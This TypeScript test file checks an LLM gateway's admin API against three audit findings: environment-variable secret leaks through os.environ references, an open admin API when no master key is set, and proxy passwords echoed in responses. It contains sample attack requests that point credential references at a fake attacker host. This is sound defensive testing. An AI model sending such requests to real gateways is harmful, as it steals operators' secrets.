import OpenAI from 'openai';
import { ModelsRepository } from '../src/store/models.repository.js';
import { FakeUpstream } from './helpers/fake-upstream.js';
import { admin, AdminGateway, BACKENDS, startAdminGateway, TestStore } from './helpers/store-backends.js';

/**
 * Three holes an audit found in the admin surface: models written over REST could read any
 * environment variable (and send it to a host of the caller's choosing), the admin API was open
 * when no master key was configured, and a password in api_base was shown back.
 */

const MASTER_VAR = 'SB_SEC_MASTER_KEY';
const MASTER = 'sk-master-sec-7c1d9e0f2a3b4c5d';
/** Named by the file's model_list, though it does not look like a provider key. */
const FILE_VAR = 'SB_SEC_FILE_PROVIDER_TOKEN';
const FILE_VALUE = 'file-token-value-5e6f7a8b9c0d';
const PATTERN_VAR = 'SB_SEC_TEAM_API_KEY';
const PATTERN_VALUE = 'sk-team-pattern-value-1a2b3c4d';
const OPTIN_VAR = 'SB_SEC_OPTIN_TOKEN';
const OPTIN_VALUE = 'optin-token-value-9f8e7d6c';
/** A variable with a recognisable value that no rule allows. */
const OTHER_VAR = 'SB_SEC_UNRELATED_SECRET';
const OTHER_VALUE = 'unrelated-secret-value-0a9b8c7d';
const SALT = 'salt-key-value-3d4e5f6a7b8c9d0e';

const ENV: Record<string, string> = {
  [MASTER_VAR]: MASTER,
  [FILE_VAR]: FILE_VALUE,
  [PATTERN_VAR]: PATTERN_VALUE,
  [OPTIN_VAR]: OPTIN_VALUE,
  [OTHER_VAR]: OTHER_VALUE,
  SWITCHBOARD_SALT_KEY: SALT,
};
/** Values that must never appear in a response, nor reach the attacker's host. */
const PROTECTED = [MASTER, OTHER_VALUE, SALT, process.env.HOME ?? '/root', process.env.PATH ?? '/usr/bin'];

const saved: Record<string, string | undefined> = {};
function setEnv(vars: Record<string, string | undefined>): void {
  for (const [k, v] of Object.entries(vars)) {
    if (!(k in saved)) saved[k] = process.env[k];
    if (v === undefined) delete process.env[k];
    else process.env[k] = v;
  }
}
function restoreEnv(): void {
  for (const [k, v] of Object.entries(saved)) {
    if (v === undefined) delete process.env[k];
    else process.env[k] = v;
    delete saved[k];
  }
}

const sqlite = BACKENDS.find((b) => b.name === 'sqlite')!;

describe('admin security: os.environ/ references in models written over REST', () => {
  let store: TestStore;
  let gw: AdminGateway;
  let up: FakeUpstream;
  let attacker: FakeUpstream;

  const yaml = () => `
model_list:
  - model_name: from-file
    litellm_params: { model: openai/file-up, api_base: ${up.url}/v1, api_key: os.environ/${FILE_VAR} }
    model_info: { id: file-1 }
general_settings:
  master_key: os.environ/${MASTER_VAR}
`;

  beforeAll(async () => {
    setEnv(ENV);
    store = await sqlite.create();
    up = await FakeUpstream.start();
    attacker = await FakeUpstream.start();
    gw = await startAdminGateway(yaml(), store.location);
  });

  afterAll(async () => {
    await gw?.close();
    await up?.close();
    await attacker?.close();
    await store?.dispose();
    restoreEnv();
  });

  beforeEach(() => attacker.reset());

  const newModel = (id: string, params: Record<string, unknown>, extra: Record<string, unknown> = {}) =>
    admin(gw, 'POST', '/model/new', {
      model_name: id,
      litellm_params: { model: 'openai/leak', api_base: `${attacker.url}/v1`, ...params },
      model_info: { id },
      ...extra,
    }, MASTER);

  function expectRefused(res: { status: number; body: any; text: string }, param: string, why: RegExp): void {
    expect(res.status).toBe(400);
    expect(res.body.error).toMatchObject({ type: 'invalid_request_error', param });
    expect(res.body.error.message).toMatch(why);
    for (const value of PROTECTED) expect(res.text).not.toContain(value);
  }

  const OWN = /gateway's own variables/;
  const NOT_ALLOWED = /may not be read by models written over the admin API.*_API_KEY.*SWITCHBOARD_ADMIN_ALLOWED_ENV_VARS/;

  it.each([
    ['HOME', NOT_ALLOWED],
    ['PATH', NOT_ALLOWED],
    [OTHER_VAR, NOT_ALLOWED],
    // Read by the gateway itself for bedrock deployments.
    ['AWS_SECRET_ACCESS_KEY', OWN],
    ['DATABASE_URL', OWN],
    ['REDIS_URL', OWN],
    ['SWITCHBOARD_SALT_KEY', OWN],
    ['SWITCHBOARD_ANYTHING_API_KEY', OWN],
    [MASTER_VAR, OWN],
    ['PORT', OWN],
    ['not-a-name', /not a valid environment variable name/],
  ])('POST /model/new with api_key os.environ/%s is refused, and nothing is sent anywhere', async (name, why) => {
    const res = await newModel('leak-1', { api_key: `os.environ/${name}` });
    expectRefused(res, 'litellm_params.api_key', why);
    expect(res.body.error.message).toContain(`os.environ/${name}`);
    // Nothing was created: the name does not route, and the attacker's host heard nothing.
    const client = new OpenAI({ baseURL: gw.baseURL, apiKey: MASTER, maxRetries: 0 });
    await expect(client.chat.completions.create({ model: 'leak-1', messages: [{ role: 'user', content: 'x' }] })).rejects.toMatchObject({ status: 404 });
    expect((await admin(gw, 'GET', '/model/info?litellm_model_id=leak-1', undefined, MASTER)).status).toBe(404);
    expect(attacker.requests).toHaveLength(0);
  });

  it('every other field that resolves references is covered: extra_headers, api_base, model_name, model_info', async () => {
    expectRefused(
      await admin(gw, 'POST', '/model/new', { model_name: 'h', litellm_params: { model: 'openai/x', api_base: `${attacker.url}/v1`, extra_headers: { 'x-leak': `os.environ/${MASTER_VAR}` } } }, MASTER),
      'litellm_params.extra_headers.x-leak',
      OWN,
    );
    expectRefused(await admin(gw, 'POST', '/model/new', { model_name: 'b', litellm_params: { model: 'openai/x', api_base: 'os.environ/DATABASE_URL' } }, MASTER), 'litellm_params.api_base', OWN);
    expectRefused(await admin(gw, 'POST', '/model/new', { model_name: 'os.environ/HOME', litellm_params: { model: 'openai/x', api_base: `${attacker.url}/v1` } }, MASTER), 'model_name', NOT_ALLOWED);
    expectRefused(
      await admin(gw, 'POST', '/model/new', { model_name: 'd', litellm_params: { model: 'openai/x', api_base: `${attacker.url}/v1` }, model_info: { description: `os.environ/${OTHER_VAR}` } }, MASTER),
      'model_info.description',
      NOT_ALLOWED,
    );
    expect(attacker.requests).toHaveLength(0);
  });

  it('PATCH /model/{id} and POST /model/update are checked the same way', async () => {
    expect((await newModel('victim-1', { api_key: 'sk-literal-victim-000000' }, { model_name: 'victim' })).status).toBe(200);
    try {
      expectRefused(await admin(gw, 'PATCH', '/model/victim-1', { litellm_params: { api_key: 'os.environ/HOME' } }, MASTER), 'litellm_params.api_key', NOT_ALLOWED);
      expectRefused(
        await admin(gw, 'POST', '/model/update', { litellm_params: { api_key: `os.environ/${MASTER_VAR}` }, model_info: { id: 'victim-1' } }, MASTER),
        'litellm_params.api_key',
        OWN,
      );
      expectRefused(
        await admin(gw, 'PATCH', '/model/victim-1', { litellm_params: { extra_headers: { authorization: 'os.environ/SWITCHBOARD_SALT_KEY' } } }, MASTER),
        'litellm_params.extra_headers.authorization',
        OWN,
      );
      // The model is unchanged: it still sends its own literal key.
      const client = new OpenAI({ baseURL: gw.baseURL, apiKey: MASTER, maxRetries: 0 });
      await client.chat.completions.create({ model: 'victim', messages: [{ role: 'user', content: 'x' }] });
      expect(attacker.requests).toHaveLength(1);
      expect(attacker.last().headers.authorization).toBe('Bearer sk-literal-victim-000000');
      for (const value of [...PROTECTED, FILE_VALUE]) expect(JSON.stringify(attacker.last().headers)).not.toContain(value);
    } finally {
      await admin(gw, 'POST', '/model/delete', { id: 'victim-1' }, MASTER);
    }
  });

  it('allowed: *_API_KEY names, names the file model_list uses, and an operator opt-in list', async () => {
    const client = new OpenAI({ baseURL: gw.baseURL, apiKey: MASTER, maxRetries: 0 });
    const cases: [string, string][] = [
      [PATTERN_VAR, PATTERN_VALUE],
      [FILE_VAR, FILE_VALUE],
    ];
    for (const [name, value] of cases) {
      const created = await admin(gw, 'POST', '/model/new', { model_name: `ok-${name}`, litellm_params: { model: 'openai/ok', api_base: `${up.url}/v1`, api_key: `os.environ/${name}` }, model_info: { id: `ok-${name}` } }, MASTER);
      expect(created.status).toBe(200);
      expect(created.body.litellm_params.api_key).toBe(`os.environ/${name}`); // a reference, shown as written
      await client.chat.completions.create({ model: `ok-${name}`, messages: [{ role: 'user', content: 'x' }] });
      expect(up.last().headers.authorization).toBe(`Bearer ${value}`);
      await admin(gw, 'POST', '/model/delete', { id: `ok-${name}` }, MASTER);
    }

    const body = { model_name: 'ok-optin', litellm_params: { model: 'openai/ok', api_base: `${up.url}/v1`, api_key: `os.environ/${OPTIN_VAR}` }, model_info: { id: 'ok-optin' } };
    expectRefused(await admin(gw, 'POST', '/model/new', body, MASTER), 'litellm_params.api_key', NOT_ALLOWED);
    setEnv({ SWITCHBOARD_ADMIN_ALLOWED_ENV_VARS: `${OPTIN_VAR}, SWITCHBOARD_SALT_KEY,${MASTER_VAR},DATABASE_URL` });
    try {
      expect((await admin(gw, 'POST', '/model/new', body, MASTER)).status).toBe(200);
      await client.chat.completions.create({ model: 'ok-optin', messages: [{ role: 'user', content: 'x' }] });
      expect(up.last().headers.authorization).toBe(`Bearer ${OPTIN_VALUE}`);
      // The opt-in list cannot reopen the gateway's own variables.
      for (const own of ['SWITCHBOARD_SALT_KEY', MASTER_VAR, 'DATABASE_URL']) {
        expectRefused(await newModel('own-1', { api_key: `os.environ/${own}` }), 'litellm_params.api_key', OWN);
      }
    } finally {
      setEnv({ SWITCHBOARD_ADMIN_ALLOWED_ENV_VARS: undefined });
      await admin(gw, 'POST', '/model/delete', { id: 'ok-optin' }, MASTER);
    }
    expect(attacker.requests).toHaveLength(0);
  });

  it('a stored row that predates the rule is served with the reference unresolved, never the value', async () => {
    const repo = gw.app.get(ModelsRepository);
    // Written straight to the store, as an older version's admin API would have.
    await repo.upsert({
      id: 'old-leak-1',
      modelName: 'old-leak',
      litellmParams: { model: 'openai/leak', api_base: `${attacker.url}/v1`, api_key: `os.environ/${MASTER_VAR}`, extra_headers: { 'x-home': 'os.environ/HOME' } },
      modelInfo: { id: 'old-leak-1' },
      deleted: false,
    });
    const logs: string[] = [];
    await gw.close();
    gw = await startAdminGateway(yaml(), store.location, { logs });
    try {
      const client = new OpenAI({ baseURL: gw.baseURL, apiKey: MASTER, maxRetries: 0 });
      const err = await client.chat.completions.create({ model: 'old-leak', messages: [{ role: 'user', content: 'x' }] }).then(
        () => undefined,
        (e: unknown) => e as { status: number; message: string },
      );
      expect(err?.status).toBe(502);
      expect(err?.message).toContain(MASTER_VAR);
      // The gateway's own variables cannot be opened up: the message does not suggest the opt-in list for them.
      expect(err?.message).toContain(`litellm_params.api_key: os.environ/${MASTER_VAR} names one of the gateway's own variables`);
      expect(err?.message).toContain('It cannot be allowed: update the model (PATCH /model/old-leak-1) to drop the reference.');
      expect(err?.message).not.toContain('is not set');
      expect(attacker.requests).toHaveLength(0);
      const log = logs.join('');
      expect(log).toMatch(/stored model 'old-leak-1': litellm_params\.api_key: os\.environ\/SB_SEC_MASTER_KEY names one of the gateway's own variables/);
      expect(log).toMatch(/stored model 'old-leak-1': litellm_params\.extra_headers\.x-home: os\.environ\/HOME/);
      for (const value of [MASTER, SALT, OTHER_VALUE]) expect(log).not.toContain(value);
    } finally {
      await admin(gw, 'POST', '/model/delete', { id: 'old-leak-1' }, MASTER);
    }
  });
  it('a stored reference the operator no longer allows: requests, log, /model/info and /model/resolve say so and how to allow it', async () => {
    setEnv({ SWITCHBOARD_ADMIN_ALLOWED_ENV_VARS: OPTIN_VAR });
    const body = { model_name: 'narrowed', litellm_params: { model: 'openai/ok', api_base: `${up.url}/v1`, api_key: `os.environ/${OPTIN_VAR}` }, model_info: { id: 'narrowed-1' } };
    expect((await admin(gw, 'POST', '/model/new', body, MASTER)).status).toBe(200);
    const chat = () =>
      new OpenAI({ baseURL: gw.baseURL, apiKey: MASTER, maxRetries: 0 }).chat.completions.create({ model: 'narrowed', messages: [{ role: 'user', content: 'x' }] });
    try {
      await chat();
      expect(up.last().headers.authorization).toBe(`Bearer ${OPTIN_VALUE}`);

      // The operator narrows the list and restarts: the variable is still set, but may no longer be read.
      setEnv({ SWITCHBOARD_ADMIN_ALLOWED_ENV_VARS: 'SOMETHING_ELSE' });
      const logs: string[] = [];
      await gw.close();
      gw = await startAdminGateway(yaml(), store.location, { logs });
      up.reset();
      const why =
        `litellm_params.api_key: os.environ/${OPTIN_VAR} may not be read by models written over the admin API: allowed are variables the config ` +
        `file's model_list already references, names ending in _API_KEY, and those listed in SWITCHBOARD_ADMIN_ALLOWED_ENV_VARS. ` +
        `To allow it, add ${OPTIN_VAR} to SWITCHBOARD_ADMIN_ALLOWED_ENV_VARS and restart; or update the model (PATCH /model/narrowed-1) to drop the reference.`;

      const err = await chat().then(
        () => undefined,
        (e: unknown) => e as { status: number; code: string; message: string; error: { message: string } },
      );
      expect(err?.status).toBe(502);
      expect(err?.code).toBe('deployment_misconfigured');
      expect(err?.error.message).toBe(`Deployment 'narrowed-1' of model 'narrowed' (openai) cannot be used: ${why}`);
      expect(up.requests).toHaveLength(0);

      const log = logs.join('');
      expect(log).toContain(`stored model 'narrowed-1': ${why} Requests to it fail until then.`);
      const info = await admin(gw, 'GET', '/model/info?litellm_model_id=narrowed-1', undefined, MASTER);
      expect(info.body.data[0].model_info.misconfigured).toBe(why);
      expect(info.body.data[0].litellm_params.api_key).toBe(`os.environ/${OPTIN_VAR}`);
      const resolved = await admin(gw, 'GET', '/model/resolve?model=narrowed', undefined, MASTER);
      expect(resolved.body.candidates[0]).toMatchObject({ deployment_id: 'narrowed-1', has_api_key: false, misconfigured: why });
      for (const text of [log, err!.message, info.text, resolved.text]) {
        expect(text).not.toContain(OPTIN_VALUE);
        expect(text).not.toContain('is not set');
      }

      // Following the message works.
      setEnv({ SWITCHBOARD_ADMIN_ALLOWED_ENV_VARS: `SOMETHING_ELSE,${OPTIN_VAR}` });
      await gw.close();
      gw = await startAdminGateway(yaml(), store.location);
      await chat();
      expect(up.last().headers.authorization).toBe(`Bearer ${OPTIN_VALUE}`);
      expect((await admin(gw, 'GET', '/model/info?litellm_model_id=narrowed-1', undefined, MASTER)).body.data[0].model_info.misconfigured).toBeUndefined();
    } finally {
      await admin(gw, 'POST', '/model/delete', { id: 'narrowed-1' }, MASTER);
      setEnv({ SWITCHBOARD_ADMIN_ALLOWED_ENV_VARS: undefined });
    }
  });
});

describe('admin security: no master key configured', () => {
  let store: TestStore;
  let gw: AdminGateway;
  let up: FakeUpstream;

  beforeAll(async () => {
    store = await sqlite.create();
    up = await FakeUpstream.start();
    gw = await startAdminGateway(`
model_list:
  - model_name: m
    litellm_params: { model: openai/gpt-4o, api_base: ${up.url}/v1, api_key: sk-upstream-open-0000 }
    model_info: { id: m-1 }
`, store.location);
  });

  afterAll(async () => {
    await gw?.close();
    await up?.close();
    await store?.dispose();
  });

  // Every row has three entries: jest would take a missing one for a done() callback.
  const ADMIN_ROUTES: [string, string, unknown][] = [
    ['POST', '/model/new', { model_name: 'evil', litellm_params: { model: 'openai/x', api_base: 'http://127.0.0.1:9/v1' }, model_info: { id: 'evil-1' } }],
    ['POST', '/model/update', { litellm_params: { api_base: 'http://127.0.0.1:9/v1' }, model_info: { id: 'm-1' } }],
    ['PATCH', '/model/m-1', { litellm_params: { api_base: 'http://127.0.0.1:9/v1' } }],
    ['POST', '/model/delete', { id: 'm-1' }],
    ['GET', '/model/info', undefined],
    ['GET', '/v1/model/info', undefined],
    ['GET', '/model_group/info', undefined],
    ['GET', '/model/resolve?model=m', undefined],
    ['GET', '/alias', undefined],
    ['PUT', '/alias/evil', { model: 'm' }],
    ['DELETE', '/alias/evil', undefined],
    ['POST', '/config/reload', undefined],
    ['POST', '/key/generate', {}],
    ['GET', '/key/info?key=sk-x', undefined],
    ['GET', '/key/list', undefined],
    ['POST', '/key/update', { key: 'sk-x', models: [] }],
    ['POST', '/key/delete', { keys: ['sk-x'] }],
    ['GET', '/spend/logs', undefined],
    ['GET', '/health', undefined],
  ];

  it.each(ADMIN_ROUTES)('%s %s is 403 "admin API disabled", with or without a key', async (method, path, body) => {
    for (const key of [null, 'sk-anything-at-all']) {
      const res = await admin(gw, method, path, body, key);
      expect(res.status).toBe(403);
      expect(res.body.error).toMatchObject({ type: 'permission_error', code: 'permission_denied' });
      expect(res.body.error.message).toContain('admin API disabled: set general_settings.master_key');
    }
  });

  it('nothing was changed by those attempts, and inference stays open', async () => {
    const client = new OpenAI({ baseURL: gw.baseURL, apiKey: 'sk-whatever', maxRetries: 0 });
    expect((await client.models.list()).data.map((m) => m.id)).toEqual(['m']);
    const completion = await client.chat.completions.create({ model: 'm', messages: [{ role: 'user', content: 'hi' }] });
    expect(completion.model).toBe('m');
    expect(up.last().path).toBe('/v1/chat/completions');
    expect(up.last().headers.authorization).toBe('Bearer sk-upstream-open-0000');
    expect((await fetch(`${gw.url}/health/liveliness`)).status).toBe(200);
    expect((await fetch(`${gw.url}/health/readiness`)).status).toBe(200);
    expect(await store.rows('models')).toEqual([]);
    expect(await store.rows('aliases')).toEqual([]);
  });
});

describe('admin security: a password in api_base', () => {
  const PASSWORD = 'hunter2secretPW';
  const STORED_PASSWORD = 'stored-hunter2-pw';
  let store: TestStore;
  let gw: AdminGateway;
  let up: FakeUpstream;

  const withUser = (url: string, password: string) => url.replace('http://', `http://proxyuser:${password}@`);

  beforeAll(async () => {
    store = await sqlite.create();
    up = await FakeUpstream.start();
    gw = await startAdminGateway(`
model_list:
  - model_name: behind-proxy
    litellm_params: { model: openai/gpt-4o, api_base: "${withUser(up.url, PASSWORD)}/v1" }
    model_info: { id: proxy-1 }
general_settings:
  master_key: ${MASTER}
`, store.location);
  });

  afterAll(async () => {
    await gw?.close();
    await up?.close();
    await store?.dispose();
  });

  beforeEach(() => up.reset());

  function expectMasked(text: string): void {
    expect(text).not.toContain(PASSWORD);
    expect(text).not.toContain(STORED_PASSWORD);
    expect(text).not.toContain(Buffer.from(`proxyuser:${PASSWORD}`).toString('base64'));
  }

  it('is still used upstream, and masked in every admin answer that shows a base URL', async () => {
    const created = await admin(gw, 'POST', '/model/new', {
      model_name: 'stored-proxy',
      litellm_params: { model: 'openai/gpt-4o', api_base: `${withUser(up.url, STORED_PASSWORD)}/v1` },
      model_info: { id: 'stored-proxy-1' },
    }, MASTER);
    try {
      expect(created.status).toBe(200);
      expectMasked(created.text);
      expect(created.body.litellm_params.api_base).toBe(`${withUser(up.url, '***')}/v1`);

      const client = new OpenAI({ baseURL: gw.baseURL, apiKey: MASTER, maxRetries: 0 });
      await client.chat.completions.create({ model: 'behind-proxy', messages: [{ role: 'user', content: 'x' }] });
      expect(up.last().headers.authorization).toBe(`Basic ${Buffer.from(`proxyuser:${PASSWORD}`).toString('base64')}`);
      await client.chat.completions.create({ model: 'stored-proxy', messages: [{ role: 'user', content: 'x' }] });
      expect(up.last().headers.authorization).toBe(`Basic ${Buffer.from(`proxyuser:${STORED_PASSWORD}`).toString('base64')}`);

      const patched = await admin(gw, 'PATCH', '/model/stored-proxy-1', { litellm_params: { timeout: 30 } }, MASTER);
      expect(patched.status).toBe(200);
      expectMasked(patched.text);

      for (const path of ['/model/info', '/v1/model/info', '/model/info?litellm_model_id=proxy-1', '/model_group/info', '/model/resolve?model=behind-proxy', '/model/resolve?model=stored-proxy']) {
        const res = await admin(gw, 'GET', path, undefined, MASTER);
        expect(res.status).toBe(200);
        expectMasked(res.text);
      }
      const info = await admin(gw, 'GET', '/model/info', undefined, MASTER);
      expect(info.body.data.map((m: any) => m.litellm_params.api_base).sort()).toEqual([`${withUser(up.url, '***')}/v1`, `${withUser(up.url, '***')}/v1`]);
      const resolved = await admin(gw, 'GET', '/model/resolve?model=behind-proxy', undefined, MASTER);
      expect(resolved.body.candidates[0].api_base).toBe(`${withUser(up.url, '***')}/v1`);

      const health = await admin(gw, 'GET', '/health', undefined, MASTER);
      expect(health.status).toBe(200);
      expectMasked(health.text);
      expect(health.body.healthy_endpoints.map((e: any) => e.api_base)).toEqual([`${withUser(up.url, '***')}/v1`, `${withUser(up.url, '***')}/v1`]);

      // The stored override still works after the PATCH: the real password was kept, not the mask.
      await client.chat.completions.create({ model: 'stored-proxy', messages: [{ role: 'user', content: 'x' }] });
      expect(up.last().headers.authorization).toBe(`Basic ${Buffer.from(`proxyuser:${STORED_PASSWORD}`).toString('base64')}`);
    } finally {
      await admin(gw, 'POST', '/model/delete', { id: 'stored-proxy-1' }, MASTER);
    }
  });

  it('an upstream error that echoes the password reaches neither the client nor /health', async () => {
    const echo = { status: 401, body: { error: { message: `proxy auth failed for proxyuser:${PASSWORD} (Basic ${Buffer.from(`proxyuser:${PASSWORD}`).toString('base64')})`, type: 'authentication_error' } } };
    const client = new OpenAI({ baseURL: gw.baseURL, apiKey: MASTER, maxRetries: 0 });
    up.enqueue(echo);
    const err = await client.chat.completions.create({ model: 'behind-proxy', messages: [{ role: 'user', content: 'x' }] }).then(
      () => undefined,
      (e: unknown) => e as { status: number; message: string; error: unknown },
    );
    expect(err?.status).toBe(401);
    expect(err?.message).toContain('proxy auth failed');
    expectMasked(err!.message);
    expectMasked(JSON.stringify(err!.error));

    up.enqueue(echo);
    const health = await admin(gw, 'GET', '/health?model=behind-proxy', undefined, MASTER);
    expect(health.body.unhealthy_endpoints[0].error).toContain('proxy auth failed');
    expectMasked(health.text);
  });

  it('the unknown-route 404 names the path, not the query string', async () => {
    for (const path of ['/nope?key=sk-query-secret-12345678', '/v1/nope?api_key=sk-query-secret-12345678&x=1']) {
      const res = await fetch(`${gw.url}${path}`, { headers: { authorization: `Bearer ${MASTER}` } });
      expect(res.status).toBe(404);
      const text = await res.text();
      expect(text).not.toContain('sk-query-secret');
      expect(text).not.toContain('?');
      expect(JSON.parse(text).error).toMatchObject({ code: 'not_found', message: `No route GET ${path.split('?')[0]}.` });
    }
  });
});
